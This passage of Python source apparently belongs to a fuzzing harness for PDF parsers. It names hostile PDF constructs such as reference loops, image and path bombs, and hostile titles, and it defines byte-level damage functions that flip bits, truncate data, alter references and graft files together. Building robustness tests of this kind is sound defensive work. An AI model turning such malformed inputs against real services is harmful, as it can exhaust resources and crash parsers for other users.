    _appearance_of_itself,
    _two_in_one,
    _layers,
    _tiny_objects,
)
_VARIED = (
    _reference_chain,
    _object_stream_loop,
    _reference_stream_loop,
    _reference_table_loop,
    _reference_table_lies,
    _page_tree_loop,
    _deep_page_tree,
    _page_count_lie,
    _one_page_many_times,
    _deep_arrays,
    _deep_dictionaries,
    _one_long_word,
    _predictor_lies,
    _image_bomb,
    _fax_lies,
    _image_codecs_of_noise,
    _colours_of_themselves,
    _path_bomb,
    _box,
    _actions,
    _embedded_files,
    _bad_font,
    _bad_map,
    _differences_flood,
    _encryption,
    _encrypted_by_itself,
    _outline_loop,
    _deep_outline,
    _hostile_outline,
    _hostile_title,
    _title_that_is_no_text,
    _stream_lengths,
    _impossible_numbers,
    _impossible_operators,
    _junk_around,
    _only_a_header,
)


def _name(make: Callable[..., bytes]) -> str:
    return make.__name__.strip("_").replace("_", " ")


def _always(make: Callable[[], bytes]) -> Make:
    return lambda _: make()


CONSTRUCTS: dict[str, Make] = {_name(make): _always(make) for make in _FIXED} | {
    _name(make): make for make in _VARIED
}
"""Each hostile construct by its name, made with what is random about it."""
SLOW_PICTURES = {"pattern of itself", "shading bomb"}
"""Constructs whose picture takes a parser until its time is over."""
ONCE = SLOW_PICTURES | {
    "forms of forms",
    "deep marked content",
    "text flood",
    "text flood of many pages",
    "chinese without end",
}
"""Constructs that take seconds by their nature, of which one of each is enough."""


# --- Damage ------------------------------------------------------------------------------------------------


def _flip(random: Random, data: bytes) -> bytes:
    changed = bytearray(data)
    for _ in range(random.choice((1, 4, 16, 64))):
        changed[random.randrange(len(changed))] ^= 1 << random.randrange(8)
    return bytes(changed)


def _overwrite(random: Random, data: bytes) -> bytes:
    begin, end = _part(random, data)
    return data[:begin] + random.choice([random.randbytes(end - begin), b"\0" * (end - begin)]) + data[end:]


def _truncate(random: Random, data: bytes) -> bytes:
    return data[: random.randrange(1, len(data))]


def _behead(random: Random, data: bytes) -> bytes:
    begin = random.randrange(9, len(data))
    return data[:9] + data[begin:]


def _remove(random: Random, data: bytes) -> bytes:
    begin, end = _part(random, data)
    return data[:begin] + data[end:]


def _double(random: Random, data: bytes) -> bytes:
    begin, end = _part(random, data)
    return data[:end] + data[begin:end] * random.choice((1, 1, 5, 50)) + data[end:]


def _move(random: Random, data: bytes) -> bytes:
    begin, end = _part(random, data)
    rest = data[:begin] + data[end:]
    place = random.randrange(len(rest) + 1)
    return rest[:place] + data[begin:end] + rest[place:]


def _numbers(random: Random, data: bytes) -> bytes:
    values = (
        b"0",
        b"-1",
        b"1",
        b"%d" % HUGE,
        b"%d" % (HUGE + 1),
        b"1e30",
        b"99999999999999999999",
        b"0.00001",
    )
    return _replace(random, data, rb"(?<![\w.#])-?\d+(?:\.\d+)?(?![\w.])", lambda _: random.choice(values))


def _references(random: Random, data: bytes) -> bytes:
    count = max(data.count(b" obj"), 1)
    return _replace(random, data, rb"\d+ 0 R", lambda _: b"%d 0 R" % random.randint(0, count + 1))


def _keywords(random: Random, data: bytes) -> bytes:
    words = rb"endobj|endstream|stream|obj|xref|trailer|startxref|<<|>>|\[|\]|%%EOF"
    return _replace(random, data, words, lambda word: random.choice([b"", word * 2, word[::-1], b"<<" * 300]))


def _names(random: Random, data: bytes) -> bytes:
    names = re.findall(rb"/[A-Za-z0-9]+", data) or [b"/X"]
    return _replace(random, data, rb"/[A-Za-z0-9]+", lambda _: random.choice(names))


def _reopen(random: Random, data: bytes) -> bytes:
    """Damage inside a compressed stream, which byte flips from outside seldom get through."""
    for match in sorted(re.finditer(rb"stream\r?\n", data), key=lambda _: random.random()):
        end = data.find(b"endstream", match.end())
        try:
            plain = zlib.decompress(data[match.end() : end].rstrip(b"\r\n"))
        except zlib.error:
            continue
        if plain:
            return data[: match.end()] + zlib.compress(_flip(random, _numbers(random, plain))) + data[end:]
    return _flip(random, data)


def _graft(random: Random, data: bytes) -> bytes:
    other = CONSTRUCTS[random.choice(["actions", "outline loop", "bad font", "hostile title", "box"])](random)
    return data[: random.randrange(9, len(data))] + other[random.randrange(len(other)) :]


DAMAGES: dict[str, Damage] = {
    "bits flipped": _flip,
    "bytes overwritten": _overwrite,
    "cut off": _truncate,
    "beheaded": _behead,
    "bytes removed": _remove,
    "bytes doubled": _double,
    "bytes moved": _move,
    "numbers changed": _numbers,
    "references changed": _references,
    "keywords changed": _keywords,
    "names changed": _names,
    "damaged inside a stream": _reopen,
    "two files grown together": _graft,
}


def _part(random: Random, data: bytes) -> tuple[int, int]:
    begin = random.randrange(len(data))
    return begin, min(begin + random.choice((1, 16, 256, 4096)), len(data))


def _replace(random: Random, data: bytes, pattern: bytes, new: Callable[[bytes], bytes]) -> bytes:
    """Some of the pattern's matches replaced, from one to a tenth of them."""
    found = list(re.finditer(pattern, data))
    if not found:
        return data
    chosen = random.sample(found, random.choice((1, 1, max(1, len(found) // 10))))
    parts, begin = [], 0
    for match in sorted(chosen, key=re.Match.start):
        parts += [data[begin : match.start()], new(match[0])]
        begin = match.end()
    return b"".join([*parts, data[begin:]])
